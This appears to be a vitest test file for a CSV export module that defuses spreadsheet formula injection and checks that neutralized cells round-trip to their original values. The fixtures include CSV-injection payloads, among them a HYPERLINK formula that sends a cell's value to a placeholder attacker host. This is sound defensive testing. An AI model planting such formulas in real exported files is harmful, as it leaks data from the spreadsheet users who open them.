import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, neutralize, restore } from '../../src/fix/excel-cell.js';

// What a spreadsheet may run as a formula when it starts a cell (OWASP "CSV Injection").
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

describe('Excel-safe cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","click")', `'=HYPERLINK("http://evil.example","click")`],
    ['=1+1', "'=1+1"],
    ['+84912345678', "'+84912345678"],
    ['-5', "'-5"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
    ["'already quoted", "''already quoted"],
    ['Nguyễn Văn An', 'Nguyễn Văn An'],
    ['012345678901', '012345678901'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j is stored as %j and read back as itself', (value, stored) => {
    expect(neutralize(value)).toBe(stored);
    expect(restore(stored)).toBe(value);
  });

  it('round-trips every string exactly', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', '"', ',', '\n', 'ệ') }), (value) => {
        expect(restore(neutralize(value))).toBe(value);
      }),
      { numRuns: 2000 },
    );
  });

  it('a CSV line of such cells parses back to cells that never start a formula, and restores to the values', () => {
    const values = ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', '+84 912', '-1', '@x', '\t=1', '\r=1', "'=1", 'plain, "quoted"\nline'];
    const line = values.map(csvCell).join(',');
    const [cells] = parse(line, { bom: true }) as string[][];
    expect(cells).toHaveLength(values.length);
    for (const cell of cells!) expect(FORMULA_STARTS.includes(cell[0] ?? '')).toBe(false);
    expect(cells!.map(restore)).toEqual(values);
  });
});
